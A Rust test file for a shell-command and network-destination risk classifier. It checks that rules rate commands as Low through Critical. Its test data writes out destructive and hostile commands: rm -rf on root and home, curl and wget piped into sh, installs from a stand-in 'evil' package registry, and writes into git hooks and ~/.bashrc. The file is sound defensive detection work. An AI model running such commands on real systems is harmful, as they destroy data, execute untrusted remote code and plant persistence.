//! The built-in rules as values: each fires on its examples and not on near misses.

use std::path::PathBuf;

use super::classify::{Assessment, Classifier, DestFacts, ExecFacts};
use super::defaults;
use super::level::Level::{self, Critical, High, Low, Medium};

fn classifier() -> Classifier {
    Classifier::new(defaults::rules().expect("the built-in rules compile"))
}

/// Rates `argv` run in the workspace `/work/proj`.
fn rate(argv: &[&str]) -> Assessment {
    classifier().classify_exec(&ExecFacts {
        path: String::new(),
        argv: argv.iter().map(|s| s.to_string()).collect(),
        cwd: Some(PathBuf::from("/work/proj")),
        parents: Vec::new(),
    })
}

#[track_caller]
fn expect(argv: &[&str], level: Level, rule: &str) {
    let got = rate(argv);
    assert_eq!(
        (got.level, got.rule.as_str()),
        (level, rule),
        "{argv:?} → {got:?}"
    );
}

fn sh(script: &str) -> [&str; 3] {
    ["sh", "-c", script]
}

#[test]
fn rm_rf_outside_the_workspace_is_critical_inside_high() {
    expect(&["rm", "-rf", "/"], Critical, "rm-rf-outside");
    expect(&["rm", "-r", "-f", "/etc"], Critical, "rm-rf-outside");
    expect(&["rm", "-fr", "../other"], Critical, "rm-rf-outside");
    expect(&["rm", "-Rf", "~"], Critical, "rm-rf-outside");
    expect(
        &["rm", "--recursive", "--force", "/home"],
        Critical,
        "rm-rf-outside",
    );
    expect(&["/bin/rm", "-rf", "."], Critical, "rm-rf-outside");
    expect(&["rm", "-rf", "build"], High, "rm-rf");
    expect(&["rm", "-rf", "./target/debug"], High, "rm-rf");
    expect(&["rm", "-fr", "build", "dist"], High, "rm-rf");
    // Near misses: not recursive, or not forced.
    expect(&["rm", "-f", "/tmp/x"], Low, "");
    expect(&["rm", "-r", "build"], Low, "");
    expect(&["rm", "file-rf"], Low, "");
}

#[test]
fn downloads_piped_into_a_shell_are_critical() {
    expect(
        &sh("curl -fsSL https://x/install.sh | sh"),
        Critical,
        "pipe-to-shell",
    );
    expect(&sh("curl x | bash -s"), Critical, "pipe-to-shell");
    expect(
        &sh("curl x | sudo bash -s -- --yes"),
        Critical,
        "pipe-to-shell",
    );
    expect(&sh("wget -O- x | sh"), Critical, "pipe-to-shell");
    expect(
        &sh("curl x | tee log | /bin/bash"),
        Critical,
        "pipe-to-shell",
    );
    expect(
        &["bash", "-lc", "set -e; curl -s x | zsh"],
        Critical,
        "pipe-to-shell",
    );
    expect(
        &["bash", "-c", "sh -c 'curl x | sh'"],
        Critical,
        "pipe-to-shell",
    );
    expect(&sh("bash <(curl -s x)"), Critical, "download-to-shell");
    expect(
        &sh("sh -c \"$(curl -fsSL x)\""),
        Critical,
        "download-to-shell",
    );
    expect(&sh("echo aGk= | base64 -d | sh"), High, "pipe-into-shell");
    // Near misses: the download goes elsewhere, or a shell is not fed.
    expect(&sh("curl x | jq .name"), Medium, "download");
    expect(&sh("curl -o sh x"), Medium, "download");
    expect(&sh("curl x | shasum"), Medium, "download");
    expect(&sh("echo 'curl x | sh'"), Low, "");
    // A plain exec is never read as a script: these are arguments.
    expect(&["echo", "curl", "x", "|", "sh"], Low, "");
}

#[test]
fn eval_is_critical_only_as_a_command() {
    expect(&["bash", "-lc", "eval $(ssh-agent -s)"], Critical, "eval");
    expect(
        &["bash", "-lc", "eval \"$(pyenv init -)\""],
        Critical,
        "eval",
    );
    expect(&sh("x=1 && eval \"$x\""), Critical, "eval");
    expect(&sh("echo evaluation"), Low, "");
    expect(&["grep", "eval", "src"], Low, "");
}

#[test]
fn inline_code_is_high_and_system_calls_in_it_critical() {
    expect(&["python3", "-c", "print(1)"], High, "inline-code");
    expect(&["node", "-e", "console.log(1)"], High, "inline-code");
    expect(
        &["python3", "-c", "import os; os.system('id')"],
        Critical,
        "inline-code-system",
    );
    expect(
        &[
            "/usr/bin/python3.12",
            "-c",
            "import subprocess; subprocess.run(['id'])",
        ],
        Critical,
        "inline-code-system",
    );
    expect(
        &["node", "-e", "require('child_process').execSync('id')"],
        Critical,
        "inline-code-system",
    );
    expect(
        &sh("python -c 'exec(input())'"),
        Critical,
        "inline-code-system",
    );
    // A script file is not inline code, and system() in a file argument is not code.
    expect(&["python3", "script.py"], Low, "");
    expect(&["python3", "os.system.py"], Low, "");
}

#[test]
fn shells_started_by_inline_code_are_high() {
    let facts = ExecFacts {
        path: "/bin/sh".to_owned(),
        argv: vec!["sh".into(), "-c".into(), "id".into()],
        cwd: Some(PathBuf::from("/work/proj")),
        parents: vec![vec![
            "python3".into(),
            "-c".into(),
            "import os; os.system('id')".into(),
        ]],
    };
    let got = classifier().classify_exec(&facts);
    assert_eq!((got.level, got.rule.as_str()), (High, "shell-from-code"));
    let facts = ExecFacts {
        parents: vec![vec!["make".into(), "all".into()]],
        ..facts
    };
    assert_eq!(classifier().classify_exec(&facts).level, Low);
}

#[test]
fn package_installs_from_custom_registries_are_critical() {
    expect(
        &["pip", "install", "--index-url", "http://evil/simple", "x"],
        Critical,
        "pip-custom-index",
    );
    expect(
        &[
            "pip3",
            "install",
            "--extra-index-url=https://evil/simple",
            "x",
        ],
        Critical,
        "pip-custom-index",
    );
    expect(
        &["python3", "-m", "pip", "install", "-i", "http://e/s", "x"],
        Critical,
        "pip-custom-index",
    );
    expect(
        &["pip", "install", "git+https://evil/x.git"],
        Critical,
        "pip-custom-index",
    );
    expect(
        &["npm", "install", "--registry", "http://evil", "x"],
        Critical,
        "npm-custom-registry",
    );
    expect(
        &["npm", "i", "--registry=http://evil", "x"],
        Critical,
        "npm-custom-registry",
    );
    expect(
        &["cargo", "install", "--git", "https://evil/x", "x"],
        Critical,
        "cargo-custom-source",
    );
    expect(
        &["gem", "install", "--source", "http://evil", "x"],
        Critical,
        "gem-custom-source",
    );
    expect(
        &sh("cd app && npm install --registry http://evil x"),
        Critical,
        "npm-custom-registry",
    );
    // Standard registries: HIGH (install scripts run code), not CRITICAL.
    expect(&["pip", "install", "requests"], High, "package-install");
    expect(&["npm", "install"], High, "package-install");
    expect(&["cargo", "install", "ripgrep"], High, "package-install");
    expect(&["apt-get", "install", "-y", "jq"], High, "package-install");
    // Not installs.
    expect(&["pip", "list"], Low, "");
    expect(&["npm", "test"], Low, "");
    expect(&["cargo", "build"], Low, "");
}

#[test]
fn writes_of_files_run_outside_or_later_are_caught() {
    expect(
        &["cp", "x", ".git/hooks/pre-commit"],
        Critical,
        "git-hooks-write",
    );
    expect(&["cp", "x", ".git/hooks/"], Critical, "git-hooks-write");
    expect(
        &["mv", "-t", ".git/hooks", "x"],
        Critical,
        "git-hooks-write",
    );
    expect(
        &["ln", "-s", "/tmp/x", "sub/.git/hooks/post-checkout"],
        Critical,
        "git-hooks-write",
    );
    expect(
        &sh("echo 'curl e|sh' > .git/hooks/pre-push"),
        Critical,
        "git-hooks-write",
    );
    expect(
        &sh("printf x | tee -a .git/config"),
        Critical,
        "git-hooks-write",
    );
    expect(
        &["git", "config", "core.hooksPath", "/tmp/h"],
        Critical,
        "git-hooks-config",
    );
    expect(
        &sh("echo 'alias ls=x' >> ~/.bashrc"),
        Critical,
        "startup-file-write",
    );
    expect(
        &sh("echo x >> $HOME/.profile"),
        Critical,
        "startup-file-write",
    );
    expect(&["tee", "/root/.zshrc"], Critical, "startup-file-write");
    expect(&["chmod", "+x", "~/.local/bin/x"], High, "bin-write");
    expect(
        &["chmod", "755", "/home/ann/.local/bin/x"],
        High,
        "bin-write",
    );
    expect(
        &["install", "-m", "755", "tool", "/usr/local/bin/tool"],
        High,
        "bin-write",
    );
    expect(
        &["curl", "-o", "/usr/local/bin/tool", "https://x/t"],
        High,
        "bin-write",
    );
    expect(&["chmod", "+x", "run.sh"], High, "make-executable");
    // Near misses: reading those files, or writing ordinary ones.
    expect(&["cat", ".git/hooks/pre-commit"], Low, "");
    expect(&["cp", ".git/hooks/pre-commit.sample", "backup"], Low, "");
    expect(&["cp", "a", "b"], Low, "");
    expect(&["chmod", "644", "~/.local/bin/x"], Low, "");
    expect(&sh("echo x > notes.txt"), Low, "");
    expect(&sh("cat ~/.bashrc > copy"), Low, "");
}

#[test]
fn everyday_commands_are_low() {
    for argv in [
        &["git", "status"][..],
        &["ls", "-la"],
        &["cargo", "test"],
        &["make", "-j2"],
        &["sh", "-c", "cd src && make 2>&1 | tee build.log"],
        &["bash", "script.sh"],
    ] {
        let got = rate(argv);
        assert_eq!(got.level, Low, "{argv:?} → {got:?}");
        assert_eq!(got.reason, "no rule matched");
        assert_eq!(got.rule, "");
    }
}

#[test]
fn wrappers_do_not_hide_the_command() {
    expect(&["sudo", "rm", "-rf", "/"], Critical, "rm-rf-outside");
    expect(
        &["env", "A=1", "timeout", "5", "rm", "-rf", "/"],
        Critical,
        "rm-rf-outside",
    );
    expect(&sh("FOO=1 nohup rm -rf /var"), Critical, "rm-rf-outside");
}

fn dest(host: &str, port: u16, allowed: bool, process: Option<&[&str]>) -> Assessment {
    classifier().classify_destination(&DestFacts {
        host: host.to_owned(),
        port,
        allowed_by_policy: allowed,
        process: process.map(|p| p.iter().map(|s| s.to_string()).collect()),
    })
}

#[test]
fn destinations_are_rated_by_address_port_policy_and_asker() {
    let curl: &[&str] = &["curl", "https://example.com"];
    let python: &[&str] = &["/usr/bin/python3.11", "fetch.py"];
    let a = dest("example.com", 443, true, Some(curl));
    assert_eq!((a.level, a.rule.as_str()), (Low, ""));
    let a = dest("example.com", 443, true, Some(python));
    assert_eq!((a.level, a.rule.as_str()), (Critical, "code-network"));
    let a = dest("203.0.113.9", 443, true, Some(curl));
    assert_eq!((a.level, a.rule.as_str()), (High, "raw-ip"));
    let a = dest("[2001:db8::1]", 443, true, None);
    assert_eq!((a.level, a.rule.as_str()), (High, "raw-ip"));
    let a = dest("example.com", 443, false, Some(curl));
    assert_eq!((a.level, a.rule.as_str()), (High, "unlisted-host"));
    let a = dest("example.com", 22, true, None);
    assert_eq!((a.level, a.rule.as_str()), (Medium, "unusual-port"));
    let a = dest("example.com", 80, true, None);
    assert_eq!(a.level, Low);
    // Port 0: not known yet (a DNS question); port rules do not match.
    let a = dest("example.com", 0, true, None);
    assert_eq!(a.level, Low);
    let a = dest("example.com", 0, false, None);
    assert_eq!((a.level, a.rule.as_str()), (High, "unlisted-host"));
}

#[test]
fn highest_level_wins_and_ties_go_to_the_earlier_rule() {
    // Both rm-rf (HIGH) and rm-rf-outside (CRITICAL) match; CRITICAL wins although it
    // comes first anyway; pipe-to-shell and eval are both CRITICAL: the first listed wins.
    expect(&sh("eval x; curl x | sh"), Critical, "pipe-to-shell");
    // raw-ip (HIGH) and unusual-port (MEDIUM): HIGH.
    let a = dest("10.0.0.1", 22, true, None);
    assert_eq!(a.rule, "raw-ip");
}
